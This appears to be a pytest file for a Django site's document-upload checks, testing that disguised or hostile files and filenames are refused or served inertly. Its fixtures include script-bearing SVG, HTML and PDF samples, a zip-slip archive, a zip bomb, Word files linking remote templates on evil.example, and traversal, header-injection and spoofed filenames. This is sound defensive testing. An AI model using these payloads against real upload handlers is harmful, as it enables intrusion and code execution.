"""Files that are not what they are called: refused, or given as a file to be kept and nothing
else. Who is one by its content is tests.hub.test_files; tables are tests.library.test_import."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from calls.models import CallSeries
from hub.files import DOCX, LARGEST, PDF, check_document, media_type
from hub.models import User
from library.models import Resource
from tests.hub.test_files import TYPES, WORD, archive
from tests.people import staff_client
from tests.reading import filled
from tests.trainings import making

pytestmark = pytest.mark.django_db
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="canary()"/>'
PAGE = b"<!doctype html><script>canary()</script>"
INERT = {
    "Content-Security-Policy": "default-src 'none'; sandbox",
    "X-Content-Type-Options": "nosniff",
}


def zipped(*names: str, size: int = 10) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name in names:
            made.writestr(name, b"\0" * size)
    return out.getvalue()


def linked(target: str, kind: str = "attachedTemplate", encoding: str = "utf-8") -> bytes:
    """A Word file with a part that is elsewhere."""
    relation = (
        f'<?xml version="1.0" encoding="{encoding}"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode(encoding)
    rels = {"word/_rels/settings.xml.rels": relation}
    return archive(types=TYPES, document="<w:document/>", **rels)


REFUSED = {
    "picture that acts": SVG,
    "page": PAGE,
    "page behind a mark of UTF-8": b"\xef\xbb\xbf" + PAGE,
    "page before a pdf": PAGE + b"%PDF-1.7\n",
    "archive": zipped("a.txt"),
    "archive that climbs": zipped("../../hub/settings.py"),
    "archive of archives": zipped("word/document.xml", "a.zip"),
    "bomb": zipped("[Content_Types].xml", "word/document.xml", size=30_000_000),
    "program": b"MZ\x90\x00",
    "script": b"#!/bin/sh\ncurl https://evil.example\n",
    "template elsewhere": linked("https://evil.example/a.dotm"),
    "template on a share": linked("file://evil.example/a.dotm"),
    "template of Windows": linked("\\\\evil.example\\share\\a.dotm"),
    "template in other letters": linked("https://evil.example/a.dotm", encoding="utf-16"),
    "template in entities": linked("&#104;ttps://evil.example/a.dotm"),
    "picture elsewhere": linked("https://evil.example/a.png", "image"),
    "object elsewhere": linked("https://evil.example/a", "oleObject"),
    "list that is none": archive(types=TYPES, document="x", **{"_rels/.rels": "<a"}),
    "lists without end": archive(types=TYPES, document="x", **{"_rels/.rels": " " * 2_000_000}),
}
# Both at once: what they are to a reader of PDF or Word is what they are here.
TWO_FACED = {
    "pdf and page": (b"%PDF-1.7\n" + PAGE + b"\n%%EOF", PDF),
    "pdf and archive": (b"%PDF-1.7\n%%EOF\n" + zipped("a.txt"), PDF),
    "pdf with script": (b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(canary())>>>>", PDF),
    "word and page": (WORD + PAGE, DOCX),
}
NAMES = {
    "climbs": "../../../hub/settings.py",
    "climbs on Windows": "..\\..\\settings.py",
    "root": "/etc/passwd",
    "line": "a\r\nSet-Cookie: canary=1\r\n\r\n<script>.pdf",
    "turned around": "guide\u202efdp.exe",
    "nothing": "\x00",
    "NUL": "guide.pdf\x00.exe",
    "long": "x" * 300 + ".pdf",
    "markup": '"><img src=x onerror=canary()>.pdf',
    "quote": '"; filename=evil.html; x=".pdf',
    "device": "CON",
    "page": "guide.html",
    "two endings": "guide.pdf.svg",
    "hidden": ".htaccess",
}


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.MEDIA_ROOT.mkdir()
    return settings.MEDIA_ROOT


@pytest.fixture
def alice():
    return staff_client(User.objects.create_superuser("alice@example.org"))


@pytest.fixture
def guide():
    return Resource.objects.create(slug="guide", title="A guide", placement="legal")


def upload(alice, row: Resource | CallSeries, name: str, content: bytes, kind: str):
    """As a browser sends it from the row's own page."""
    label, field = row._meta.label_lower.replace(".", "_"), _field(row)
    address = reverse(f"admin:{label}_change", args=[row.pk])
    file = SimpleUploadedFile("x", content, content_type=kind)
    # Past the cleaning that a browser does not do.
    file._name = name
    return alice.post(address, filled(alice.get(address)) | {field: file})


def _field(row: Resource | CallSeries) -> str:
    return "file" if isinstance(row, Resource) else "flyer"


def refused(answer, field: str, media) -> None:
    """The form comes back with an error at its field, and nothing is stored."""
    assert answer.status_code == 200
    assert field in answer.context["adminform"].form.errors
    assert [path for path in media.rglob("*") if path.is_file()] == []


@pytest.mark.parametrize("content", REFUSED.values(), ids=REFUSED)
@pytest.mark.parametrize("name", ["guide.pdf", "guide.docx"])
def test_what_is_no_document_is_refused(content, name):
    with pytest.raises(ValidationError, match="must be a PDF or a Word file"):
        check_document(SimpleUploadedFile(name, content, content_type=PDF))


@pytest.mark.parametrize(
    "content",
    [
        linked("https://example.org/", "hyperlink"),
        linked("file:///C:\\Users\\alice\\Letter.dotx"),
    ],
    ids=["link", "own template"],
)
def test_a_link_and_a_template_of_ones_own_are_fine(content):
    check_document(SimpleUploadedFile("guide.docx", content))


@pytest.mark.parametrize(("content", "kind"), TWO_FACED.values(), ids=TWO_FACED)
def test_what_is_two_things_is_given_as_the_one(alice, guide, client, media, content, kind):
    assert media_type(io.BytesIO(content)) == kind
    assert upload(alice, guide, "guide.html", content, "text/html").status_code == 302
    answer = client.get("/library/guide/file/", headers={"Accept": "text/html"})
    assert b"".join(answer) == content
    assert answer.headers["Content-Type"] == kind
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="guide.')
    assert {name: answer.headers[name] for name in INERT} == INERT


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_no_name_leads_out_of_the_folder_or_into_the_answer(alice, guide, client, media, name):
    answer = upload(alice, guide, name, b"%PDF-1.7 canary", "text/html")
    assert answer.status_code in {200, 302}
    stored = [path for path in media.parent.rglob("*") if path.is_file()]
    assert all(path.parent == media / "library" for path in stored), stored
    if answer.status_code == 200:
        assert stored == [], "refused, and kept all the same"
        return
    given = client.get("/library/guide/file/")
    if not stored:
        assert given.status_code == 404, "a file without any name is none"
        return
    assert b"".join(given) == b"%PDF-1.7 canary"
    assert given.headers["Content-Disposition"] == 'attachment; filename="guide.pdf"'
    assert "Set-Cookie" not in given.headers
    assert {name: given.headers[name] for name in INERT} == INERT
    for address in ("/library/guide/", reverse("admin:library_resource_change", args=[guide.pk])):
        shown = alice.get(address).content.decode()
        assert "<img src=x" not in shown
        assert "\u202e" not in shown


@pytest.mark.parametrize("content", [SVG, PAGE, WORD, b""], ids=["svg", "page", "word", "empty"])
def test_a_flyer_is_a_pdf(alice, content, media):
    series = making_series()
    refused(upload(alice, series, "flyer.pdf", content, PDF), "flyer", media)
    series.refresh_from_db()
    assert not series.flyer


def making_series() -> CallSeries:
    return CallSeries.objects.create(slug="a-call", name="A call", summary="We discuss cases.")


def test_an_empty_file_and_one_of_26_mb_are_refused(alice, guide, media):
    for content in (b"", b"%PDF-".ljust(LARGEST + 1024 * 1024, b"x")):
        refused(upload(alice, guide, "guide.pdf", content, PDF), "file", media)
    guide.refresh_from_db()
    assert not guide.file


def test_no_stranger_can_send_a_file_at_all(client):
    sent = {"name": "Bob", "file": SimpleUploadedFile("x.svg", SVG)}
    offering = making.offering(status="open", published_at=making.at("2026-01-01"))
    for address in ("/library/suggest/", "/technical-assistance/ask/", offering.get_absolute_url()):
        page = client.post(address, sent)
        assert page.status_code < 500
        assert "canary()" not in page.content.decode()
        assert '<input type="file"' not in page.content.decode()
